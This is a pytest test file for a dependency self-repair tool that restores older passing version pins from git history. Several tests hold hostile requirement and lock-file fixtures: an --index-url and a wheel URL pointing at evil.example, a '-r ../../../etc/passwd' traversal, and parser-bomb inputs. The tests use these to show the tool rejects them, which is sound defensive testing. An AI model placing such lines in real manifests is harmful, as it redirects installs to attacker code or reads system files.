"""Earlier locks and lists of pins: the versions of a green build are known by name, and nobody has to guess a day."""

import pytest

from fakes import tree_of
from fix.dependencies.fake_world import FakeWorld, Release
from fix.dependencies.test_investigation import FLASK, NOTHING, edited, works
from selfheal.contract.explanation import Direction
from selfheal.contract.history import Past
from selfheal.contract.packages import Pin
from selfheal.contract.patch import FileEdit
from selfheal.fix.dependencies.bench import PythonBench
from selfheal.fix.dependencies.findings import Findings
from selfheal.fix.dependencies.investigation import investigate
from selfheal.fix.dependencies.locks import locked_pins
from selfheal.fix.dependencies.plan import plan_for

COMMIT = "a" * 40
PINS = "flask==2.2.5\nwerkzeug==3.0.1\ncolour==2.0\n"


def past(text: str | None, *, day: str = "2022-12-01", path: str = "requirements.txt") -> Past:
    return Past(commit=COMMIT, day=day, edits=(FileEdit(path=path, content=None if text is None else text.encode()),))


def unchanged(day: str) -> Past:
    """The commit that wrote the manifest as it is."""
    return Past(commit="b" * 40, day=day, edits=())


def a_world(text: str, passes: object, *pasts: Past, **changes: object) -> FakeWorld:
    files = {"requirements.txt": text, "app.py": "import flask\n"}
    facts = {"index": {**FLASK, "pytest": (Release("8.0"),)}, "passes": passes, "pasts": pasts} | changes
    return FakeWorld(tree=tree_of(files | facts.pop("files", {})), **facts)  # type: ignore[arg-type,operator]


async def look(world: FakeWorld, *, is_certain: bool = True) -> Findings:
    plan = plan_for("pytest -q", world.tree)
    assert plan is not None
    return await investigate(world, world.tree, plan, NOTHING, is_certain=is_certain)


async def test_a_pin_that_a_bot_raised_is_named_and_the_way_forward_comes_first():
    """The older list passes; of the two that moved one is guilty. It is dated to the release; a pin stays a pin."""
    old = past("flask==2.2.5\nwerkzeug==2.3.0\ncolour==1.0\n")
    found = await look(a_world(PINS, works, old, green_day="2023-09-01"))
    forward, back = found.candidates
    assert edited(forward) == PINS.replace("flask==2.2.5", "flask==2.3.3")
    assert edited(back) == PINS.replace("werkzeug==3.0.1", "werkzeug==2.3.8")
    told = back.explanation
    assert told is not None
    assert [(step.name, step.before, step.after) for step in told.guilty] == [("werkzeug", "2.3.8", "3.0.0")]
    assert told.direction is Direction.BACK
    assert "requirements.txt as in commit aaaaaaaaaa of 2022-12-01" in told.sentence


async def test_the_older_list_is_proved_before_it_is_believed():
    """An older one that fails too is stepped over, to the one that passes."""
    lists = ("flask==2.2.5\nwerkzeug==3.0.0\ncolour==2.0\n", "flask==2.2.5\nwerkzeug==2.3.8\ncolour==2.0\n")
    pasts = [past(text, day="2025-06-01") for text in lists]
    world = a_world(PINS, works, *pasts, green_day="2023-09-01")
    found = await look(world)
    assert [one["werkzeug"] for one in world.probed[:3]] == ["3.0.1", "3.0.0", "2.3.8"]
    assert found.candidates


async def test_two_that_moved_together_are_both_put_back():
    """Neither alone is enough."""
    old = past("flask==2.2.5\nwerkzeug==2.3.0\ncolour==1.0\n")
    world = a_world(PINS, lambda i, t: i["werkzeug"] < "3" and i["colour"] < "2", old)
    world.index["flask"] = FLASK["flask"][:1]
    (candidate,) = (await look(world)).candidates
    assert edited(candidate) == "flask==2.2.5\nwerkzeug==2.3.8\ncolour==1.0\n"


async def test_a_range_that_was_raised_is_as_it_was():
    """No release below the new bound is left that could pass."""
    world = a_world("flask<2.3\nwerkzeug>=3\n", works, past("flask<2.3\nwerkzeug>=2.2\n"))
    world.index["flask"] = FLASK["flask"][:1]
    (candidate,) = (await look(world)).candidates
    assert edited(candidate) == "flask<2.3\nwerkzeug>=2.2,<3\n"


async def test_the_day_of_the_manifest_serves_where_no_other_does():
    """The last commit is of yesterday, the manifest is years old: whoever wrote it saw it pass."""
    world = a_world("flask\n", works, unchanged("2022-12-01"), green_day=None)
    world.index["flask"] = FLASK["flask"][:1]
    (candidate,) = (await look(world)).candidates
    assert world.probed[1] == {"flask": "2.2.5", "werkzeug": "2.3.0", "pytest": "8.0"}
    assert "werkzeug<3" in edited(candidate)


async def test_an_uncertain_failure_asks_for_one_older_list_and_the_day():
    """No tour through the history of a red test that merely looks like a package's doing."""
    pasts = tuple(past(f"flask==2.2.5\nwerkzeug==2.{n}.0\ncolour==1.0\n") for n in (2, 3))
    world = a_world(PINS, lambda i, t: False, *pasts)
    await look(world, is_certain=False)
    assert [one["werkzeug"] for one in world.probed] == ["3.0.1", "2.2.0"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "--index-url http://evil.example/simple\nflask @ http://evil.example/f.whl\n",
        "\0\xff" * 1000,
        "-r ../../../etc/passwd\n-e .\n",
        "flask==2.2.5; " + "(" * 5000 + "\n",
        None,
    ],
    ids=["empty", "options", "bytes", "paths", "brackets", "gone"],
)
async def test_a_hostile_list_of_the_past_only_denies_itself(text: str | None):
    """An attack: what it says is never a line for the resolver, and the days are asked all the same."""
    world = a_world("flask<2.3\ncolour==1.0\n", lambda i, t: "werkzeug" in i and works(i, t), past(text))
    asked = []
    resolve = world.resolve

    async def watched(question):  # type: ignore[no-untyped-def]
        asked.extend((*question.lines, *question.constraints))
        return await resolve(question)

    world.resolve = watched  # type: ignore[method-assign]
    assert (await look(world)).candidates
    assert not [line for line in asked if "evil" in line or line.startswith("-")]


UV_LOCK = "".join(
    f'[[package]]\nname = "{name}"\nversion = "{{{name}}}"\nsource = {{{{ registry = "x" }}}}\n'
    for name in ("flask", "werkzeug")
)


def test_the_versions_of_a_hostile_lock_are_read_or_left_out():
    """An attack: options and paths as names, numbers that no parser takes, tables that are none."""
    bad = (
        '[[package]]\nname = "--index-url"\nversion = "http://evil.example"\n'
        '[[package]]\nname = "../../etc"\nversion = "1"\n[[package]]\nname = "a\\nb"\nversion = "1"\n'
        '[[package]]\nname = 3\nversion = []\n[[package]]\nname = "good"\nversion = "1.0"\nsource = 3\n'
    )
    assert locked_pins("uv.lock", bad) == (Pin(name="good", version="1.0"),)
    for text in ("package = [1, 2]", "a = " + "9" * 5000, "package = 3", "[" * 100_000, "\0", "no = toml = at all"):
        assert locked_pins("uv.lock", text) == ()
        assert locked_pins("package-lock.json", text) == ()
    assert locked_pins("requirements.txt", "--index-url==1\n  x==1\nok==1.0 ; python_version > '3'\n-e==2\n") == (
        Pin(name="ok", version="1.0"),
    )


async def test_a_lock_of_the_past_names_exactly_what_was_installed():
    """Not what the index had that day; a package that it names twice is left to the resolver."""
    files = {"pyproject.toml": '[project]\nname = "p"\ndependencies = ["flask<2.3"]\n'}
    tree = tree_of({**files, "uv.lock": UV_LOCK.format(flask="2.2.5", werkzeug="3.0.1")})
    world = FakeWorld(index=FLASK, tree=tree, passes=works)
    plan = plan_for("python app.py", tree)
    assert plan is not None and plan.lock is not None
    bench = PythonBench(world, plan, tree)
    assert bench.recorded == ("uv.lock", "pyproject.toml")
    older = past(UV_LOCK.format(flask="2.2.5", werkzeug="2.2.0"), path="uv.lock", day="2025-01-01")
    solved = await bench.recall(older)
    assert [str(pin) for pin in getattr(solved, "pins", ())] == ["flask==2.2.5", "werkzeug==2.2.0"]
    twice = UV_LOCK.format(flask="2.2.5", werkzeug="2.2.0") + '[[package]]\nname = "werkzeug"\nversion = "2.3.0"\n'
    solved = await bench.recall(past(twice, path="uv.lock"))
    assert [str(pin) for pin in getattr(solved, "pins", ())] == ["flask==2.2.5", "werkzeug==3.1.0"]
    gone = await bench.recall(past("nonsense", path="uv.lock"))
    assert "names no versions" in getattr(gone, "message", "")


async def test_a_commit_of_the_last_day_of_all_is_a_day_too():
    """An attack: there is no day after it."""
    found = await look(a_world(PINS, works, past("flask==2.2.5\nwerkzeug==2.3.0\ncolour==1.0\n", day="9999-12-31")))
    assert len(found.candidates) == 2
